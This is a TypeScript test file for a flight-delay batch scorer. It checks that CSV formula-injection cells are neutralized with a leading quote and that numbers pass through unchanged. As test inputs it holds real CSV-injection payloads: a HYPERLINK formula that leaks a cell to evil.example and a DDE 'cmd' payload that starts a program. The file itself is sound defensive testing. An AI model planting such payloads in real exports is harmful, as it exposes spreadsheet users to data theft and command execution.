/**
 * CSV formula injection (issue 28 review, finding 3; OWASP "CSV Injection"): a carried cell that a spreadsheet
 * would run (= + @ TAB CR, or - that is not a number) comes back in the result CSV prefixed with `'` and quoted;
 * numbers, negative ones included, and every other cell come back unchanged; JSON Lines results stay raw.
 * Through the real scorer and model, and a property over arbitrary cells.
 */
import { initBackend } from "@sml/flight-model/backend";
import { FlightDelayModel } from "@sml/flight-model/model";
import fc from "fast-check";
import { isFormulaCell, splitCsvRecord } from "../../src/batch/formats";
import { scoreRange } from "../../src/batch/score-range";
import { chunked, memorySink, realFlights } from "../support/batch-files";
import { workspaceModelDir } from "../support/events";

let model: FlightDelayModel;
beforeAll(async () => {
  await initBackend(["wasm", "cpu"]);
  model = FlightDelayModel.load(workspaceModelDir);
});

const [flight] = realFlights(1);
const FLIGHT = `${flight?.origin},${flight?.destination},${flight?.departure}`;

/** A cell as RFC 4180 writes it (what a client's CSV writer sends). */
const encode = (cell: string) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);

async function scoreCsv(text: string | Buffer) {
  const sink = memorySink();
  const outcome = await scoreRange(
    { model, format: "csv", source: chunked(text, 13), start: 0, firstLine: 1 },
    sink,
  );
  return { outcome, out: sink.bytes() };
}

/** The result's data rows as cells, without the two columns the result adds. */
function resultCells(out: Buffer): string[][] {
  // Records may hold quoted newlines: split on the newline that ends each record (scored rows end with a flag).
  const records = out.toString("utf8").split(/(?<=,(?:true|false))\n/);
  return records.filter((r) => r.length > 0).map((r) => splitCsvRecord(r).slice(0, -2));
}

describe("a carried cell a spreadsheet would run", () => {
  test.each([
    [
      '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    ],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ["+1+1", `"'+1+1"`],
    ["@SUM(1+1)", `"'@SUM(1+1)"`],
    ["-2+3", `"'-2+3"`],
    ["\t=1+1", `"'\t=1+1"`],
    ['"\r=1+1"', `"'\r=1+1"`],
    ["＝1+1", `"'＝1+1"`],
  ])("%j comes back as text: %j", async (cell, expected) => {
    const { outcome, out } = await scoreCsv(`note,origin,destination,departure\n${cell},${FLIGHT}\n`);
    expect(outcome.scored).toBe(1);
    const row = out.toString("utf8").split("\n")[1] as string;
    expect(row.startsWith(`${expected},${FLIGHT},`)).toBe(true);
  });

  test.each(["-3", "-0.5", "-1e3", "-.25", "3", "plain text", "", "a=b", " =1"])(
    "%j is no formula and comes back byte for byte",
    async (cell) => {
      const { out } = await scoreCsv(`note,origin,destination,departure\n${cell},${FLIGHT}\n`);
      expect(out.toString("utf8").split("\n")[1]?.startsWith(`${cell},${FLIGHT},`)).toBe(true);
    },
  );

  test("in the header too (column names are cells)", async () => {
    const { out } = await scoreCsv(`=1+1,origin,destination,departure\nx,${FLIGHT}\n`);
    expect(out.toString("utf8").split("\n")[0]).toBe(
      `"'=1+1",origin,destination,departure,delayProbability,delayed`,
    );
  });

  test("in a row whose other bytes are not UTF-8, which keep their bytes", async () => {
    const row = Buffer.concat([Buffer.from("=1+1,caf"), Buffer.from([0xe9]), Buffer.from(`,${FLIGHT}\n`)]);
    const { out } = await scoreCsv(Buffer.concat([Buffer.from("a,b,origin,destination,departure\n"), row]));
    const second = out.subarray(out.indexOf(0x0a) + 1);
    expect(second.subarray(0, 13)).toEqual(
      Buffer.concat([Buffer.from(`"'=1+1",caf`), Buffer.from([0xe9]), Buffer.from(",")]),
    );
  });

  test("JSON Lines results stay raw (no spreadsheet opens them as cells)", async () => {
    const sink = memorySink();
    await scoreRange(
      {
        model,
        format: "jsonl",
        source: chunked(`${JSON.stringify({ note: "=1+1", ...flight })}\n`, 13),
        start: 0,
        firstLine: 1,
      },
      sink,
    );
    expect(JSON.parse(sink.text()).note).toBe("=1+1");
  });
});

describe("over arbitrary cells (property)", () => {
  const triggers = fc.constantFrom("=", "+", "-", "@", "\t", "\r", "＝", "");
  const cell = fc.tuple(triggers, fc.string({ maxLength: 12 })).map(([t, s]) => t + s);
  const number = fc.double({ noNaN: true, noDefaultInfinity: true }).map(String);

  test("no result cell starts a formula, numbers come back unchanged, and every cell keeps its text", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.oneof(cell, number), { minLength: 1, maxLength: 4 }), async (cells) => {
        const header = [...cells.map((_, i) => `c${i}`), "origin", "destination", "departure"].join(",");
        const { outcome, out } = await scoreCsv(`${header}\n${[...cells.map(encode), FLIGHT].join(",")}\n`);
        expect(outcome.scored).toBe(1);
        const [row] = resultCells(out.subarray(out.indexOf(0x0a) + 1));
        const carried = (row as string[]).slice(0, cells.length);
        for (const [i, got] of carried.entries()) {
          const sent = cells[i] as string;
          expect(isFormulaCell(got)).toBe(false);
          // A neutralized cell is the sent text behind one quote; anything else, numbers included, is unchanged.
          expect(got).toBe(isFormulaCell(sent) ? `'${sent}` : sent);
          if (/^-?\d/.test(sent) && Number.isFinite(Number(sent))) expect(got).toBe(sent);
        }
      }),
      { numRuns: 150 },
    );
  });
});
